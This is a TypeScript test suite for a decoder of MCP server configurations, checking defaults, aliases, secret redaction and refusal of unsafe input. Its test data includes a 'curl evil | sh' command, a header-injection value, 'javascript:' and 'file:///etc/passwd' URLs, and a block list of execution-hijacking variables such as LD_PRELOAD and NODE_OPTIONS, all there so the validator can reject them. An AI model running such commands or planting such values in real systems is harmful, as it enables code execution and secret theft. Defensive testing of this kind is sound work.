import { assert, describe, it } from "@effect/vitest"
import { ConfigError, ServerConfig } from "@mcp-sessions/core"
import { Duration, Effect, Redacted, Schema } from "effect"
import { validateHeaderValue } from "node:http"

const stdio = { transport: "stdio", command: "server", args: [] }
const http = { transport: "streamable_http", url: "https://example.com/mcp" }

const problemsOf = (raw: unknown) =>
  Effect.map(
    Effect.flip(ServerConfig.decode(raw)),
    ({ problems }) => problems.map((problem) => `${problem._tag} ${ConfigError.jsonPath(problem.path)}`)
  )

describe("decoding", () => {
  it.effect("fills in the defaults of stdio", () =>
    Effect.gen(function*() {
      const config = yield* ServerConfig.decode(stdio)
      assert.deepStrictEqual(config, {
        transport: "stdio",
        command: "server",
        args: [],
        env: {},
        allowUnsafeEnv: false,
        encoding: "utf-8",
        encodingErrors: "strict",
        maxNoiseLines: 1000,
        connectTimeout: Duration.seconds(30),
        requestTimeout: Duration.seconds(60),
        totalTimeout: Duration.minutes(5),
        probeTimeout: Duration.seconds(3),
        healthInterval: Duration.seconds(60),
        maxLifetime: Duration.zero,
        idleTimeToLive: Duration.minutes(10),
        maxInFlight: 64,
        maxInFlightTotal: 256,
        maxQueued: 1000,
        maxMessageBytes: 16_777_216,
        protocol: "auto",
        clientInfo: { name: "mcp-sessions", version: "0.1.0" },
        disabled: false,
        trusted: false
      })
    }))

  it.effect("fills in the defaults of the network transports", () =>
    Effect.gen(function*() {
      for (const transport of ["streamable_http", "sse", "websocket"]) {
        const url = transport === "websocket" ? "wss://example.com/mcp" : http.url
        const config = yield* ServerConfig.decode({ transport, url })
        assert.deepInclude(config, {
          url,
          headers: {},
          addresses: "any",
          connectTimeout: Duration.seconds(20),
          idleTimeToLive: Duration.minutes(5)
        })
      }
    }))

  it.effect("understands other names for the same thing", () =>
    Effect.gen(function*() {
      const decoded = yield* Effect.forEach([
        { type: "http", url: http.url },
        { type: "streamable-http", httpUrl: http.url, sseFallback: true },
        { transport: "streamableHttp", serverUrl: http.url, sseFallback: true },
        { transport: "remote", baseUrl: http.url }
      ], ServerConfig.decode)
      assert.deepInclude(yield* ServerConfig.decode(http), { sseFallback: false })
      assert.deepInclude(yield* ServerConfig.decode({ ...http, transport: "http", sseFallback: false }), {
        sseFallback: false
      })
      for (const config of decoded) assert.deepStrictEqual(config, decoded[0])
      const local = yield* ServerConfig.decode({
        type: "local",
        command: ["npx", "-y", "server"],
        environment: { A: "1" },
        enabled: false,
        encoding_error_handler: "ignore"
      })
      assert.deepInclude(local, {
        transport: "stdio",
        command: "npx",
        args: ["-y", "server"],
        disabled: true,
        encodingErrors: "ignore"
      })
      assert.strictEqual((yield* ServerConfig.decode({ type: "ws", url: "ws://h/x" })).transport, "websocket")
    }))

  it.effect("changes nothing in what was decoded", () =>
    Effect.gen(function*() {
      const config = yield* ServerConfig.decode({
        ...stdio,
        env: { TOKEN: "secret" },
        cwd: "/tmp",
        requestTimeout: "7 seconds",
        clientInfo: { name: "n", version: "1", title: "N" }
      })
      assert.deepStrictEqual(yield* ServerConfig.decode(config), config)
      const remote = yield* ServerConfig.decode({ ...http, headers: { Authorization: Redacted.make("Bearer x") } })
      assert.deepStrictEqual(yield* ServerConfig.decode(remote), remote)
    }))

  it.effect("redacts variables and headers", () =>
    Effect.gen(function*() {
      const local = yield* ServerConfig.decode({ ...stdio, env: { TOKEN: "s3cret" } })
      const remote = yield* ServerConfig.decode({ ...http, headers: { Authorization: "Bearer s3cret" } })
      for (const config of [local, remote]) {
        assert.notInclude(JSON.stringify(config), "s3cret")
        assert.notInclude(String(config), "s3cret")
      }
    }))
})

describe("refusing", () => {
  const table: ReadonlyArray<readonly [title: string, raw: unknown, problems: ReadonlyArray<string>]> = [
    ["what is no object", "stdio", ["InvalidValue $"]],
    ["a list", [], ["InvalidValue $"]],
    ["a missing transport", { command: "x", args: [] }, ["MissingTransport $"]],
    ["an unsupported transport", { ...stdio, transport: "carrier pigeon" }, ["UnsupportedTransport $.transport"]],
    ["an unsupported type", { type: 7 }, ["UnsupportedTransport $.type"]],
    ["a missing command", { transport: "stdio", args: [] }, ["MissingKey $"]],
    ["missing args", { transport: "stdio", command: "x" }, ["MissingKey $"]],
    ["a missing url", { transport: "sse" }, ["MissingKey $"]],
    ["an empty command", { ...stdio, command: "" }, ["InvalidValue $.command"]],
    ["a NUL in a command", { ...stdio, command: "a\0b" }, ["InvalidValue $.command"]],
    ["a NUL in an argument", { ...stdio, args: ["a", "b\0c"] }, ["InvalidValue $.args[\"1\"]"]],
    ["a shell, which there is no key for", { ...stdio, shell: true }, ["UnknownKey $.shell"]],
    ["args that are no list", { ...stdio, args: "a b" }, ["InvalidValue $.args"]],
    ["args that are no texts, each", { ...stdio, args: ["a", 1, 2] }, [
      "InvalidValue $.args[\"1\"]",
      "InvalidValue $.args[\"2\"]"
    ]],
    ["a variable that is no text", { ...stdio, env: { A: 1 } }, ["InvalidValue $.env.A"]],
    ["a variable name with =", { ...stdio, env: { "A=B": "x" } }, ["InvalidValue $.env[\"A=B\"]"]],
    ["a URL that is none", { ...http, url: "example.com/mcp" }, ["InvalidUrl $.url"]],
    ["a URL of another scheme", { ...http, url: "ftp://example.com" }, ["InvalidUrl $.url"]],
    ["a script as URL", { ...http, url: "javascript:alert(1)" }, ["InvalidUrl $.url"]],
    ["a script as URL, disguised", { ...http, url: "javascript://example.com/%0aalert(1)" }, ["InvalidUrl $.url"]],
    ["a file as URL", { transport: "sse", url: "file:///etc/passwd" }, ["InvalidUrl $.url"]],
    ["data as URL", { ...http, url: "data:text/plain,x" }, ["InvalidUrl $.url"]],
    ["a WebSocket URL for HTTP", { ...http, url: "wss://example.com" }, ["InvalidUrl $.url"]],
    ["an HTTP URL for a WebSocket", { transport: "websocket", url: http.url }, ["InvalidUrl $.url"]],
    ["a URL with credentials", { ...http, url: "https://me:secret@example.com" }, ["InvalidUrl $.url"]],
    ["a URL with a user alone", { ...http, url: "https://me@example.com" }, ["InvalidUrl $.url"]],
    ["a URL under its other name", { type: "http", serverUrl: "nope" }, ["InvalidUrl $.serverUrl"]],
    ["an unknown key", { ...stdio, shelf: true }, ["UnknownKey $.shelf"]],
    ["a key named like a member of every object", { ...stdio, constructor: 1 }, ["UnknownKey $.constructor"]],
    ["headers on stdio", { ...stdio, headers: {} }, ["MisplacedKey $.headers"]],
    ["args on HTTP", { ...http, args: [] }, ["MisplacedKey $.args"]],
    ["a key given under two names", { ...http, baseUrl: http.url }, ["ConflictingKeys $"]],
    ["arguments given twice", { ...stdio, command: ["a", "b"], args: ["c"] }, ["ConflictingKeys $"]],
    ["a duration without unit", { ...stdio, requestTimeout: "soon" }, ["InvalidDuration $.requestTimeout"]],
    ["a negative duration", { ...stdio, connectTimeout: -1 }, ["InvalidDuration $.connectTimeout"]],
    ["a duration that is no number", { ...stdio, totalTimeout: Number.NaN }, ["InvalidDuration $.totalTimeout"]],
    ["an endless duration", { ...stdio, idleTimeToLive: "Infinity" }, ["InvalidDuration $.idleTimeToLive"]],
    ["a duration of years", { ...stdio, requestTimeout: "1000 days" }, ["InvalidDuration $.requestTimeout"]],
    ["a size out of bounds", { ...stdio, maxMessageBytes: 10 }, ["InvalidValue $.maxMessageBytes"]],
    ["a protocol that does not exist", { ...stdio, protocol: "2099-01-01" }, ["InvalidValue $.protocol"]],
    ["an encoding that does not exist", { ...stdio, encoding: "ebcdic" }, ["InvalidValue $.encoding"]],
    ["client info without a version", { ...stdio, clientInfo: { name: "n" } }, ["InvalidValue $.clientInfo.version"]],
    ["a header name with a space", { ...http, headers: { "a b": "x" } }, ["InvalidValue $.headers[\"a b\"]"]],
    ["headers that the transport writes, each", {
      ...http,
      headers: { "Mcp-Session-Id": "x", "MCP-PROTOCOL-VERSION": "x", host: "x", "Content-Length": "1", Fine: "x" }
    }, [
      "ReservedHeader $.headers[\"Mcp-Session-Id\"]",
      "ReservedHeader $.headers[\"MCP-PROTOCOL-VERSION\"]",
      "ReservedHeader $.headers.host",
      "ReservedHeader $.headers[\"Content-Length\"]"
    ]],
    ["a header that the handshake of a WebSocket is made of", {
      transport: "websocket",
      url: "wss://example.com",
      headers: { "Sec-WebSocket-Protocol": "other" }
    }, ["ReservedHeader $.headers[\"Sec-WebSocket-Protocol\"]"]],
    ["variables that change what a program runs, each", {
      ...stdio,
      env: { NODE_OPTIONS: "x", LD_PRELOAD: "x", DYLD_INSERT_LIBRARIES: "x", PYTHONSTARTUP: "x", FINE: "x" }
    }, [
      "UnsafeVariable $.env.NODE_OPTIONS",
      "UnsafeVariable $.env.LD_PRELOAD",
      "UnsafeVariable $.env.DYLD_INSERT_LIBRARIES",
      "UnsafeVariable $.env.PYTHONSTARTUP"
    ]],
    ["a variable that leaves out the checks of TLS, in any case", {
      ...stdio,
      allowUnsafeEnv: false,
      environment: { Node_Tls_Reject_Unauthorized: "0" }
    }, ["UnsafeVariable $.environment.Node_Tls_Reject_Unauthorized"]],
    [
      "everything that is wrong, at once",
      { ...stdio, command: "", headers: {}, nonsense: 1, requestTimeout: "never" },
      ["InvalidValue $.command", "MisplacedKey $.headers", "UnknownKey $.nonsense", "InvalidDuration $.requestTimeout"]
    ]
  ]
  for (const [title, raw, expected] of table) {
    it.effect(`refuses ${title}`, () =>
      Effect.map(problemsOf(raw), (problems) => assert.deepStrictEqual(problems, expected)))
  }

  for (
    const [title, value] of [
      ["CR", "s3cret\r"],
      ["LF", "s3\ncret"],
      ["a second header", "s3cret\r\nhost: evil"],
      ["NUL", "s3cret\0"],
      ["DEL", "s3cret\x7f"],
      ["what is not latin1", "s3cret→"]
    ] as const
  ) {
    it.effect(`refuses ${title} in a header before any client of HTTP could quote it`, () =>
      Effect.gen(function*() {
        for (const remote of [http, { transport: "sse", url: http.url }, { transport: "websocket", url: "wss://h" }]) {
          const error = yield* Effect.flip(ServerConfig.decode({ ...remote, headers: { Authorization: value } }))
          assert.deepStrictEqual(
            error.problems.map(({ _tag, path }) => `${_tag} ${ConfigError.jsonPath(path)}`),
            ["InvalidValue $.headers.Authorization"]
          )
          assert.notInclude(error.message + JSON.stringify(error) + String(error.stack), "s3")
        }
      }))
  }

  it.effect.prop(
    "lets no header through that a client of HTTP would refuse",
    [Schema.String],
    ([value]) =>
      Effect.map(Effect.result(ServerConfig.decode({ ...http, headers: { A: value } })), (decoded) => {
        if (decoded._tag === "Failure") return
        assert.strictEqual(new Headers({ a: value }).get("a"), value)
        validateHeaderValue("a", value)
      })
  )

  it.effect("lets unsafe variables through where the definition says so", () =>
    Effect.gen(function*() {
      const given = { ...stdio, env: { NODE_OPTIONS: "--max-old-space-size=64" }, allowUnsafeEnv: true }
      const config = yield* ServerConfig.decode(given)
      assert.deepStrictEqual(yield* ServerConfig.decode(config), config)
      // The schema itself, without the explanations, is no way around it.
      const bare = { ...given, allowUnsafeEnv: false, transport: "stdio" as const }
      assert.isTrue(Schema.is(ServerConfig.ServerConfig)(config))
      assert.strictEqual(Schema.decodeResult(ServerConfig.ServerConfig)(bare)._tag, "Failure")
    }))

  it.effect("names the valid ones where a name is wrong", () =>
    Effect.gen(function*() {
      const missing = yield* Effect.flip(ServerConfig.decode({}))
      assert.strictEqual(
        missing.message,
        "no transport given, expected \"transport\": one of stdio, streamable_http, sse, websocket"
      )
      const misplaced = yield* Effect.flip(ServerConfig.decode({ ...stdio, headers: {} }))
      assert.strictEqual(
        misplaced.message,
        "$.headers: \"headers\" does not apply to stdio, only to streamable_http, sse, websocket"
      )
    }))

  it.effect("collects the problems of all servers with where they stand", () =>
    Effect.gen(function*() {
      const error = yield* Effect.flip(ServerConfig.decodeServers({
        servers: { good: stdio, bad: { ...stdio, args: 1 }, worse: { transport: "sse" } },
        source: "mcp.json",
        path: ["mcpServers"]
      }))
      assert.deepStrictEqual(
        error.problems.map(({ _tag, path, server, source }) => [_tag, source, server, ConfigError.jsonPath(path)]),
        [
          ["InvalidValue", "mcp.json", "bad", "$.mcpServers.bad.args"],
          ["MissingKey", "mcp.json", "worse", "$.mcpServers.worse"]
        ]
      )
    }))

  it.effect.prop(
    "never quotes a value",
    [
      Schema.String.check(Schema.isMinLength(8)),
      Schema.Literals(["url", "command", "headers", "env", "requestTimeout"])
    ],
    ([noise, key]) => {
      const secret = `s3cret${noise}`
      const value = key === "headers" || key === "env"
        ? { "A=\n": secret }
        : key === "command"
        ? `${secret}\0`
        : `${secret} `
      const base = key === "url" || key === "headers" ? http : stdio
      return Effect.map(Effect.flip(ServerConfig.decode({ ...base, [key]: value })), (error) => {
        assert.notInclude(error.message, "s3cret")
        assert.notInclude(JSON.stringify(error), "s3cret")
      })
    }
  )
})

describe("programs", () => {
  it.effect("are those that the application allows, before anything is started", () =>
    Effect.gen(function*() {
      const servers = {
        good: { transport: "stdio", command: "node", args: ["server.js"] },
        other: { transport: "stdio", command: "sh", args: ["-c", "curl evil | sh"] },
        remote: { transport: "http", url: "https://example.com/mcp" },
        worse: { transport: "stdio", command: "npx", args: ["-y", "anything"] }
      }
      const allowCommand: ServerConfig.AllowCommand = ({ args, command }) =>
        command === "node" && args[0] === "server.js"
      const { problems } = yield* Effect.flip(ServerConfig.decodeServers({ servers, allowCommand }))
      assert.deepStrictEqual(
        problems.map((problem) => `${problem._tag} ${ConfigError.jsonPath(problem.path)}: ${problem.description}`),
        [
          "DisallowedCommand $.servers.other.command: \"sh\" \"-c\" \"curl evil | sh\" may not be started here",
          "DisallowedCommand $.servers.worse.command: \"npx\" \"-y\" \"anything\" may not be started here"
        ]
      )
      assert.strictEqual((yield* ServerConfig.decodeServers({ servers })).length, 4)
    }))
})
